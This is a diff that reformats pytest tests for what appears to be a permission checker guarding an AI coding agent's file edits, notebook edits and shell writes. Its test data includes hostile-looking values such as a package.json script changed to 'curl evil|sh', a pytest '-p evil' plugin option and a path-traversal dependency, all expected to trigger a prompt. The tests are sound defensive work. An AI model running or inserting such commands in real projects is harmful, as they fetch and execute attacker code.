@@ -76,24 +76,29 @@ def test_multi_edit_works_in_order(project: Path) -> None:
     (project / "f.txt").write_text("one two\n")
     edits = [{"old_string": "one", "new_string": "two"}, {"old_string": "two", "new_string": "2", "replace_all": True}]
     assert result(project, "MultiEdit", file_path="f.txt", edits=edits) == b"2 2\n"
-    assert result(project, "MultiEdit", file_path="f.txt", edits=[*edits, {"old_string": "two", "new_string": ""}]) is None
+    assert (
+        result(project, "MultiEdit", file_path="f.txt", edits=[*edits, {"old_string": "two", "new_string": ""}]) is None
+    )
     assert result(project, "MultiEdit", file_path="f.txt", edits=[]) is None
     assert result(project, "MultiEdit", file_path="f.txt", edits="all") is None
 
 
-@pytest.mark.parametrize(("disk", "content", "expected"), [
-    (None, "a\nb\n", b"a\nb\n"),
-    (None, "a\r\nb\r\n", b"a\r\nb\r\n"),
-    (b"x\r\ny\r\n", "a\nb\n", b"a\nb\n"),  # the client writes line ends as they come
-    (b"x\ny\n", "a\r\nb\r\n", b"a\r\nb\r\n"),
-    (BOM + b"x\n", "\ufeffa\n", BOM + b"a\n"),
-    (None, "a  \r\n\tb \t\n", b"a\r\n\tb\n"),
-    (BOM + b"x\n", "a\n", BOM + b"a\n"),
-    ("\ufeffx\n".encode("utf-16-le"), "ä\n", "\ufeffä\n".encode("utf-16-le")),
-    (b"", "a\n", b"a\n"),
-    (None, 5, None),
-    (None, "\ud800", None),
-])
+@pytest.mark.parametrize(
+    ("disk", "content", "expected"),
+    [
+        (None, "a\nb\n", b"a\nb\n"),
+        (None, "a\r\nb\r\n", b"a\r\nb\r\n"),
+        (b"x\r\ny\r\n", "a\nb\n", b"a\nb\n"),  # the client writes line ends as they come
+        (b"x\ny\n", "a\r\nb\r\n", b"a\r\nb\r\n"),
+        (BOM + b"x\n", "\ufeffa\n", BOM + b"a\n"),
+        (None, "a  \r\n\tb \t\n", b"a\r\n\tb\n"),
+        (BOM + b"x\n", "a\n", BOM + b"a\n"),
+        ("\ufeffx\n".encode("utf-16-le"), "ä\n", "\ufeffä\n".encode("utf-16-le")),
+        (b"", "a\n", b"a\n"),
+        (None, 5, None),
+        (None, "\ud800", None),
+    ],
+)
 def test_write_keeps_encoding_and_mark(project: Path, disk: bytes | None, content: Any, expected: bytes | None) -> None:
     if disk is not None:
         (project / "f.txt").write_bytes(disk)
@@ -104,9 +109,13 @@ def test_write_keeps_encoding_and_mark(project: Path, disk: bytes | None, conten
 
 
 def notebook(project: Path) -> None:
-    cells = [{"id": "a", "cell_type": "code", "source": "1", "outputs": ["x"], "execution_count": 3, "metadata": {}},
-             {"id": "b", "cell_type": "markdown", "source": "text", "metadata": {}}]
-    (project / "n.ipynb").write_text(json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}, indent=1) + "\n")
+    cells = [
+        {"id": "a", "cell_type": "code", "source": "1", "outputs": ["x"], "execution_count": 3, "metadata": {}},
+        {"id": "b", "cell_type": "markdown", "source": "text", "metadata": {}},
+    ]
+    (project / "n.ipynb").write_text(
+        json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}, indent=1) + "\n"
+    )
 
 
 def sources(content: bytes | None) -> list[tuple[str, str]]:
@@ -114,15 +123,23 @@ def sources(content: bytes | None) -> list[tuple[str, str]]:
     return [(c["cell_type"], c["source"]) for c in json.loads(content)["cells"]]
 
 
-@pytest.mark.parametrize(("given", "expected"), [
-    ({"cell_id": "a", "new_source": "2"}, [("code", "2"), ("markdown", "text")]),
-    ({"cell_id": "b", "new_source": "new", "cell_type": "code"}, [("code", "1"), ("code", "new")]),
-    ({"cell_id": "a", "new_source": "mid", "edit_mode": "insert", "cell_type": "markdown"},
-     [("code", "1"), ("markdown", "mid"), ("markdown", "text")]),
-    ({"new_source": "top", "edit_mode": "insert", "cell_type": "code"}, [("code", "top"), ("code", "1"), ("markdown", "text")]),
-    ({"cell_id": "a", "new_source": "", "edit_mode": "delete"}, [("markdown", "text")]),
-    ({"cell_id": "cell-1", "new_source": "by number"}, [("code", "1"), ("markdown", "by number")]),
-])
+@pytest.mark.parametrize(
+    ("given", "expected"),
+    [
+        ({"cell_id": "a", "new_source": "2"}, [("code", "2"), ("markdown", "text")]),
+        ({"cell_id": "b", "new_source": "new", "cell_type": "code"}, [("code", "1"), ("code", "new")]),
+        (
+            {"cell_id": "a", "new_source": "mid", "edit_mode": "insert", "cell_type": "markdown"},
+            [("code", "1"), ("markdown", "mid"), ("markdown", "text")],
+        ),
+        (
+            {"new_source": "top", "edit_mode": "insert", "cell_type": "code"},
+            [("code", "top"), ("code", "1"), ("markdown", "text")],
+        ),
+        ({"cell_id": "a", "new_source": "", "edit_mode": "delete"}, [("markdown", "text")]),
+        ({"cell_id": "cell-1", "new_source": "by number"}, [("code", "1"), ("markdown", "by number")]),
+    ],
+)
 def test_notebook(project: Path, given: dict[str, Any], expected: list[tuple[str, str]]) -> None:
     notebook(project)
     assert sources(result(project, "NotebookEdit", notebook_path="n.ipynb", **given)) == expected
@@ -135,23 +152,42 @@ def test_a_replaced_code_cell_loses_its_output(project: Path) -> None:
     assert cell["outputs"] == [] and cell["execution_count"] is None
 
 
-@pytest.mark.parametrize("given", [
-    {"cell_id": "none", "new_source": "x"}, {"new_source": "x"}, {"cell_id": "a", "new_source": 5},
-    {"cell_id": "cell-9", "new_source": "x"},
-    {"cell_id": "a", "new_source": "x", "edit_mode": "other"},
-])
+@pytest.mark.parametrize(
+    "given",
+    [
+        {"cell_id": "none", "new_source": "x"},
+        {"new_source": "x"},
+        {"cell_id": "a", "new_source": 5},
+        {"cell_id": "cell-9", "new_source": "x"},
+        {"cell_id": "a", "new_source": "x", "edit_mode": "other"},
+    ],
+)
 def test_a_notebook_edit_that_cannot_be_computed(project: Path, given: dict[str, Any]) -> None:
     notebook(project)
     assert result(project, "NotebookEdit", notebook_path="n.ipynb", **given) is None
 
 
-@pytest.mark.parametrize("text", [
-    "{not json", "[]", "", '{"cells": {}}', '{"cells": [1, null]}', '{"cells": [{"id": "a"}], "nbformat": "4"}',
-    '{"cells": [{"id": "a"}], "nbformat": null, "nbformat_minor": []}', '{"cells": ' + "[" * 5000 + "]" * 5000 + "}",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{not json",
+        "[]",
+        "",
+        '{"cells": {}}',
+        '{"cells": [1, null]}',
+        '{"cells": [{"id": "a"}], "nbformat": "4"}',
+        '{"cells": [{"id": "a"}], "nbformat": null, "nbformat_minor": []}',
+        '{"cells": ' + "[" * 5000 + "]" * 5000 + "}",
+    ],
+)
 def test_a_broken_notebook(project: Path, text: str) -> None:
     (project / "n.ipynb").write_text(text)
-    for given in ({"cell_id": "a"}, {"cell_id": "cell-0"}, {"edit_mode": "insert"}, {"cell_id": "cell-0", "edit_mode": "delete"}):
+    for given in (
+        {"cell_id": "a"},
+        {"cell_id": "cell-0"},
+        {"edit_mode": "insert"},
+        {"cell_id": "cell-0", "edit_mode": "delete"},
+    ):
         assert result(project, "NotebookEdit", notebook_path="n.ipynb", new_source="2", **given) is None
 
 
@@ -181,7 +217,10 @@ def test_a_link_to_a_protected_file(project: Path) -> None:
     (project / ".claude").mkdir()
     (project / ".claude" / "settings.json").write_text("{}")
     os.symlink(".claude/settings.json", project / "notes.json")
-    assert decided(project, facts(project, "Edit", file_path="notes.json", old_string="{}", new_string="{1}")) == Decision.DENY
+    assert (
+        decided(project, facts(project, "Edit", file_path="notes.json", old_string="{}", new_string="{1}"))
+        == Decision.DENY
+    )
 
 
 def test_a_hard_link_asks(project: Path, tmp_path: Path) -> None:
@@ -236,36 +275,50 @@ def test_a_secret_asks_with_its_place_and_a_mask(project: Path) -> None:
 
 def test_a_secret_that_was_there_is_no_news(project: Path) -> None:
     (project / "app.py").write_text(f"TOKEN = '{TOKEN}'\nx = 1\n")
-    assert decided(project, facts(project, "Edit", file_path="app.py", old_string="x = 1", new_string="x = 2")) == Decision.ALLOW
+    assert (
+        decided(project, facts(project, "Edit", file_path="app.py", old_string="x = 1", new_string="x = 2"))
+        == Decision.ALLOW
+    )
 
 
 def test_a_value_of_this_environment_is_a_secret(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("DEPLOY_PASSWORD", "correct horse battery")
-    assert decided(project, facts(project, "Write", file_path="a.txt", content="see: correct horse battery\n")) == Decision.ASK
+    assert (
+        decided(project, facts(project, "Write", file_path="a.txt", content="see: correct horse battery\n"))
+        == Decision.ASK
+    )
 
 
 PACKAGE = '{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
 
 
-@pytest.mark.parametrize(("name", "old", "new", "expected"), [
-    ("package.json", PACKAGE, PACKAGE.replace("1.0.0", "1.0.1"), Decision.ALLOW),
-    ("package.json", PACKAGE, PACKAGE.replace("jest", "curl evil|sh"), Decision.ASK),
-    ("package.json", PACKAGE, "{broken", Decision.ASK),
-    ("package.json", None, '{"name": "x"}', Decision.ALLOW),
-    ("package.json", None, PACKAGE, Decision.ASK),
-    ("pyproject.toml", "[project]\nname='x'\n", "[project]\nname='y'\n", Decision.ALLOW),
-    ("pyproject.toml", "[tool.ruff]\nline-length=1\n", "[tool.ruff]\nline-length=2\n", Decision.ALLOW),
-    ("pyproject.toml", "", "[tool.pytest.ini_options]\naddopts='-p evil'\n", Decision.ASK),
-    ("pyproject.toml", "", "[build-system]\nbackend-path=['.']\n", Decision.ASK),
-    ("pyproject.toml", "", "not toml [", Decision.ASK),
-    ("Cargo.toml", "[package]\nversion='1'\n", "[package]\nversion='2'\n[dependencies]\nserde='1'\n", Decision.ALLOW),
-    ("Cargo.toml", "", "[package]\nbuild='x.rs'\n", Decision.ASK),
-    ("Cargo.toml", "", "[lib]\nproc-macro=true\n", Decision.ASK),
-    ("Cargo.toml", "", "[dependencies]\nx={path='../core'}\n", Decision.ALLOW),
-    ("Cargo.toml", "", "[dependencies]\nx={path='../../../../tmp/x'}\n", Decision.ASK),
-    ("Cargo.toml", "", "[[test]]\nname='t'\npath='/tmp/t.rs'\n", Decision.ASK),
-    ("composer.json", "{}", '{"scripts": {"x": "y"}}', Decision.ASK),
-])
+@pytest.mark.parametrize(
+    ("name", "old", "new", "expected"),
+    [
+        ("package.json", PACKAGE, PACKAGE.replace("1.0.0", "1.0.1"), Decision.ALLOW),
+        ("package.json", PACKAGE, PACKAGE.replace("jest", "curl evil|sh"), Decision.ASK),
+        ("package.json", PACKAGE, "{broken", Decision.ASK),
+        ("package.json", None, '{"name": "x"}', Decision.ALLOW),
+        ("package.json", None, PACKAGE, Decision.ASK),
+        ("pyproject.toml", "[project]\nname='x'\n", "[project]\nname='y'\n", Decision.ALLOW),
+        ("pyproject.toml", "[tool.ruff]\nline-length=1\n", "[tool.ruff]\nline-length=2\n", Decision.ALLOW),
+        ("pyproject.toml", "", "[tool.pytest.ini_options]\naddopts='-p evil'\n", Decision.ASK),
+        ("pyproject.toml", "", "[build-system]\nbackend-path=['.']\n", Decision.ASK),
+        ("pyproject.toml", "", "not toml [", Decision.ASK),
+        (
+            "Cargo.toml",
+            "[package]\nversion='1'\n",
+            "[package]\nversion='2'\n[dependencies]\nserde='1'\n",
+            Decision.ALLOW,
+        ),
+        ("Cargo.toml", "", "[package]\nbuild='x.rs'\n", Decision.ASK),
+        ("Cargo.toml", "", "[lib]\nproc-macro=true\n", Decision.ASK),
+        ("Cargo.toml", "", "[dependencies]\nx={path='../core'}\n", Decision.ALLOW),
+        ("Cargo.toml", "", "[dependencies]\nx={path='../../../../tmp/x'}\n", Decision.ASK),
+        ("Cargo.toml", "", "[[test]]\nname='t'\npath='/tmp/t.rs'\n", Decision.ASK),
+        ("composer.json", "{}", '{"scripts": {"x": "y"}}', Decision.ASK),
+    ],
+)
 def test_parts_that_tools_run(project: Path, name: str, old: str | None, new: str, expected: Decision) -> None:
     if old is not None:
         (project / name).write_text(old)
@@ -281,23 +334,28 @@ def seen(project: Path, write: Write) -> Write:
     return after
 
 
-@pytest.mark.parametrize(("name", "how", "by", "content", "expected"), [
-    ("big.py", "overwrite", "redirection", None, Decision.ASK),
-    ("big.py", "overwrite", "cp", None, Decision.ASK),
-    ("big.py", "append", "redirection", None, Decision.ALLOW),
-    ("big.py", "overwrite", "sed -i", None, Decision.ALLOW),
-    ("src/log/big.py", "overwrite", "redirection", None, Decision.ASK),
-    ("tool.bin", "overwrite", "gcc", None, Decision.ALLOW),
-    ("tool.bin", "overwrite", "redirection", None, Decision.ASK),
-    ("big.py", "overwrite", "redirection", b"x = 1\n", Decision.ASK),
-    ("run.log", "overwrite", "redirection", None, Decision.ALLOW),
-    ("build/out.txt", "overwrite", "redirection", None, Decision.ALLOW),
-    ("small.py", "overwrite", "redirection", None, Decision.ALLOW),
-    ("new.py", "overwrite", "redirection", None, Decision.ALLOW),
-    ("new.py", "overwrite", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
-    ("small.py", "append", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
-])
-def test_shell_writes_meet_the_same_rules(project: Path, name: str, how: str, by: str, content: bytes | None, expected: Decision) -> None:
+@pytest.mark.parametrize(
+    ("name", "how", "by", "content", "expected"),
+    [
+        ("big.py", "overwrite", "redirection", None, Decision.ASK),
+        ("big.py", "overwrite", "cp", None, Decision.ASK),
+        ("big.py", "append", "redirection", None, Decision.ALLOW),
+        ("big.py", "overwrite", "sed -i", None, Decision.ALLOW),
+        ("src/log/big.py", "overwrite", "redirection", None, Decision.ASK),
+        ("tool.bin", "overwrite", "gcc", None, Decision.ALLOW),
+        ("tool.bin", "overwrite", "redirection", None, Decision.ASK),
+        ("big.py", "overwrite", "redirection", b"x = 1\n", Decision.ASK),
+        ("run.log", "overwrite", "redirection", None, Decision.ALLOW),
+        ("build/out.txt", "overwrite", "redirection", None, Decision.ALLOW),
+        ("small.py", "overwrite", "redirection", None, Decision.ALLOW),
+        ("new.py", "overwrite", "redirection", None, Decision.ALLOW),
+        ("new.py", "overwrite", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
+        ("small.py", "append", "redirection", f"T = '{TOKEN}'\n".encode(), Decision.ASK),
+    ],
+)
+def test_shell_writes_meet_the_same_rules(
+    project: Path, name: str, how: str, by: str, content: bytes | None, expected: Decision
+) -> None:
     long = "".join(f"x{i} = {i}\n" for i in range(150))
     (project / "build").mkdir()
     (project / "src/log").mkdir(parents=True)
@@ -318,10 +376,18 @@ def test_looking_leaves_other_facts_alone(project: Path) -> None:
     assert seen(project, directory) == directory
 
 
-@pytest.mark.parametrize(("name", "expected"), [
-    ("src/new.py", Decision.ALLOW), ("docs/a/b.md", Decision.ALLOW), ("top.md", Decision.ALLOW), ("app/new.py", Decision.ALLOW),
-    ("app/deep/new.py", Decision.ALLOW), ("elsewhere/new.py", Decision.ASK), ("elsewhere/src/new.py", Decision.ASK),
-])
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [
+        ("src/new.py", Decision.ALLOW),
+        ("docs/a/b.md", Decision.ALLOW),
+        ("top.md", Decision.ALLOW),
+        ("app/new.py", Decision.ALLOW),
+        ("app/deep/new.py", Decision.ALLOW),
+        ("elsewhere/new.py", Decision.ASK),
+        ("elsewhere/src/new.py", Decision.ASK),
+    ],
+)
 def test_where_new_files_are_expected(project: Path, name: str, expected: Decision) -> None:
     (project / "app").mkdir()
     assert decided(project, facts(project, "Write", file_path=name, content="x\n")) == expected
